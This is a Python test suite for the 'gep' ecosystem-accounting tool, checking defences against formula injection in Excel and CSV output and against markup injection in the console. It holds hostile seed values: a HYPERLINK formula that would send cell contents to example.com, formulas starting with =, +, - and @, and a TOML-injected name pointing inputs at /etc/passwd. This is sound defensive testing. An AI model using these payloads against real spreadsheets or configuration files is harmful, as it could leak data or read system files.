"""Hostile text in the inputs: never a live formula in a workbook, never console markup.

One county is seeded with text that starts like a formula (``=``, ``+``, ``-``,
``@``, tab) or holds console markup, in every kind of field that reaches the
report or the screen: the account name, township names (zh and en), a
coefficient row's locator, a source's citation, a Two-Mountains indicator and
target, a file name of the inputs. It is run once through ``gep run``.
"""

from __future__ import annotations

import re
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from gep.cli import app
from gep.io.excel import write_tables
from gep.io.safe_text import FORMULA_START, neutralise, neutralise_frame, write_csv
from safety_helpers import one_year_county

runner = CliRunner()

HYPERLINK = '=HYPERLINK("http://example.com/?"&A1,"百官")'
#: field -> text written into it
SEEDS = {
    "account name zh": "=1+2 上虞",
    "account name en": "[bold red]Shangyu[/bold red]",
    "township name_zh": HYPERLINK,
    "township name_en": "[/old name]",
    "township name_zh 2": "[b]曹娥[/b]",
    "township name_en 2": "@SUM(1+1)",
    "township name_en 3": "-2+3 :x: Dongguan",
    "township name_en 4": "\t=1+1 Daoxu",
    "coefficient locator": '=HYPERLINK("http://example.com/loc")',
    "source citation": "+citation, not a formula",
    "two-mountains indicator": "=1+1 [blink]空气[/blink]",
    "two-mountains target": "@>96%",
    "input file name": "+economy.csv",
}


def _edit(path, old, new, count=1):
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def _csv_cell(path, row_match: dict, column: str, value: str) -> None:
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    mask = pd.Series(True, index=frame.index)
    for k, v in row_match.items():
        mask &= frame[k] == v
    assert mask.sum() >= 1, (path, row_match)
    frame.loc[mask[mask].index[0], column] = value
    frame.to_csv(path, index=False)


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    """(console output, workbook path) of one run of the seeded county."""
    folder = tmp_path_factory.mktemp("hostile")
    config = one_year_county(folder / "county")
    county = config.parent
    _edit(config, 'name = { zh = "上虞区（示例）", en = "Shangyu District (example)" }',
          'name = { zh = "=1+2 上虞", en = "[bold red]Shangyu[/bold red]" }')
    regions = county / "regions.csv"
    _csv_cell(regions, {"id": "baiguan"}, "name_zh", SEEDS["township name_zh"])
    _csv_cell(regions, {"id": "baiguan"}, "name_en", SEEDS["township name_en"])
    _csv_cell(regions, {"id": "caoe"}, "name_zh", SEEDS["township name_zh 2"])
    _csv_cell(regions, {"id": "caoe"}, "name_en", SEEDS["township name_en 2"])
    _csv_cell(regions, {"id": "dongguan"}, "name_en", SEEDS["township name_en 3"])
    _csv_cell(regions, {"id": "daoxu"}, "name_en", SEEDS["township name_en 4"])
    _csv_cell(county / "coefficients" / "example.csv", {"key": "climate.precipitation", "valid_from": "2021"},
              "locator", SEEDS["coefficient locator"])
    _edit(county / "coefficients" / "manifest.toml",
          'citation = "illustrative value chosen by the gep developers for the example county; not a measurement"',
          f'citation = "{SEEDS["source citation"]}"')
    _csv_cell(county / "two_mountains.csv", {"no": "1"}, "indicator_zh", SEEDS["two-mountains indicator"])
    _csv_cell(county / "two_mountains.csv", {"no": "1"}, "target_text", SEEDS["two-mountains target"])
    (county / "economy.csv").rename(county / "+economy.csv")
    _edit(config, 'economy = "economy.csv"', 'economy = "+economy.csv"')
    out = folder / "out"
    r = runner.invoke(app, ["run", str(config), "--out", str(out)])
    assert r.exit_code == 0, r.output
    return r.output, out / "accounts.xlsx"


# ------------------------------------------------------------ the workbook
def test_no_cell_of_the_report_is_a_formula(seeded):
    _, path = seeded
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in zf.read(name).decode("utf-8"), name  # no formula element anywhere
    wb = load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (ws.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                    assert cell.data_type == "n"


@pytest.mark.parametrize("field", [f for f in SEEDS if SEEDS[f].startswith(FORMULA_START)])
def test_every_seeded_field_reaches_the_report_as_text_with_a_leading_quote(seeded, field):
    _, path = seeded
    text = SEEDS[field]
    wb = load_workbook(path, read_only=True)
    cells = [v for ws in wb for row in ws.iter_rows(values_only=True) for v in row
             if isinstance(v, str) and text in v]
    wb.close()
    assert cells, f"{field} does not reach the report"
    assert all(v.startswith("'") for v in cells if v.startswith("'" + text[0])) and \
        any(v.startswith("'" + text) for v in cells), cells[:3]


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised(tmp_path):
    frame = pd.DataFrame({"name": ["-3.5", "=A1", "百官", "@x"], "value": [-3.5, 2.0, -1e-9, 0.0]})
    ws = load_workbook(write_tables(tmp_path / "t.xlsx", {"t": (frame, ["+note"])}))["t"]
    assert ws["A1"].value == "'+note"
    names = [ws.cell(row=r, column=1) for r in range(4, 8)]
    values = [ws.cell(row=r, column=2) for r in range(4, 8)]
    assert [c.value for c in names] == ["'-3.5", "'=A1", "百官", "'@x"]
    assert all(c.data_type == "s" for c in names)
    assert [c.value for c in values] == [-3.5, 2.0, -1e-9, 0.0] and all(c.data_type == "n" for c in values)


@pytest.mark.parametrize("start", FORMULA_START)
def test_neutralise_each_formula_start(start):
    assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("a" + start) == "a" + start  # only the first character counts
    assert neutralise(-1) == -1 and neutralise(-1.5) == -1.5 and neutralise(None) is None


def test_csv_writer_neutralises_text_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame({"=name": ["=1+1", "ok", "\r@x"], "value": [-2.5, 1.0, 3.0]})
    path = write_csv(frame, tmp_path / "t.csv", index=False)
    text = path.read_text(encoding="utf-8-sig")
    assert text.splitlines()[0] == '"\'=name","value"'
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["'=name"].tolist() == ["'=1+1", "ok", "'\r@x"]
    assert back["value"].tolist() == [-2.5, 1.0, 3.0]
    assert neutralise_frame(frame)["value"].dtype.kind == "f"


def test_run_toml_cannot_be_given_keys_by_a_name(tmp_path):
    """A name holding a newline and a TOML table header stays one string in run.toml."""
    import tomllib

    from gep.io.outputs import run_toml

    class Res:
        config = {"account": {"name": {"zh": 'x"\n[inputs]\nregions = "/etc/passwd"\n#', "en": "\x00\t\r"}}}
        coefficients = {"id": "s", "version": "1", "sha256": "0", "chain": ["s"]}
        inputs = {"a\nb.csv": "0"}

    parsed = tomllib.loads(run_toml(Res()))
    assert parsed["account"]["name"] == Res.config["account"]["name"]
    assert "inputs" not in parsed and parsed["input_hashes"] == {"a\nb.csv": "0"}


# --------------------------------------------------------------- the console
def squash(text: str) -> str:
    """Output without spaces, line breaks and table borders (rich wraps long cells)."""
    return re.sub(r"[\s│┃┆╎|]", "", text)


#: the seeded fields the result tables print
ON_CONSOLE = ["account name en", "township name_en", "township name_zh 2", "township name_en 3", "two-mountains indicator"]


@pytest.mark.parametrize("field", ON_CONSOLE)
def test_markup_in_the_inputs_is_printed_literally(seeded, field):
    output, _ = seeded
    assert squash(SEEDS[field]) in squash(output), field


def test_markup_in_the_output_path_and_in_compare(tmp_path, seeded):
    import json
    import shutil

    _, path = seeded
    odd = tmp_path / "[red]out"
    shutil.copytree(path.parent, odd)
    summary = json.loads((odd / "summary.json").read_text(encoding="utf-8"))
    assert summary["name"]["en"] == "[bold red]Shangyu[/bold red]"
    r = runner.invoke(app, ["compare", str(odd), str(odd)])
    assert r.exit_code == 0, r.output
    for text in ("[/old name]", "[b]曹娥[/b]", ":x:"):
        assert squash(text) in squash(r.output)


def test_markup_in_problem_messages_is_printed_literally(tmp_path):
    config = one_year_county(tmp_path / "county")
    lu = config.parent / "land_use.csv"
    _edit(lu, "lingnan,0101", "lingnan,[/x]:x:")
    r = runner.invoke(app, ["validate", str(config)])
    assert r.exit_code == 1 and "[/x]:x:" in r.output and "Traceback" not in r.output


def test_markup_in_a_coefficient_set_and_a_scheme(tmp_path):
    cs = tmp_path / "set"
    cs.mkdir()
    (cs / "manifest.toml").write_text(
        'id = "[bold]odd[/bold]"\ntitle = { zh = "[/x]", en = ":x: [red]t[/red]" }\nextends = "xie-2015"\n'
        '[sources.s]\ncitation = "[link=http://x]c[/link]"\n', encoding="utf-8")
    (cs / "v.csv").write_text("key,ecosystem,region,valid_from,value,unit,price_year,source,locator,status,note\n"
                              "esv.standard_equivalent_value,*,*,2010,2900,元/hm²,2021,s,[/t],local_survey,\n",
                              encoding="utf-8")
    r = runner.invoke(app, ["coefficients", "show", str(cs), "--key", "esv.standard"])
    assert r.exit_code == 0, r.output
    for text in ("[bold]odd[/bold]", "[/x]", ":x: [red]t[/red]", "[link=http://x]c[/link]"):
        assert squash(text) in squash(r.output), text
    r = runner.invoke(app, ["coefficients", "check", str(cs)])
    assert r.exit_code == 0 and "[/x]" not in r.output
    scheme = tmp_path / "[bold]scheme.csv"
    scheme.write_text("code,name_zh,name_en,ecosystem\n01,[/水田],[bold]paddy[/bold],farmland_paddy\n", encoding="utf-8")
    r = runner.invoke(app, ["schemes", "show", str(scheme)])
    assert r.exit_code == 0, r.output
    for text in ("[/水田]", "[bold]paddy[/bold]"):
        assert squash(text) in squash(r.output)
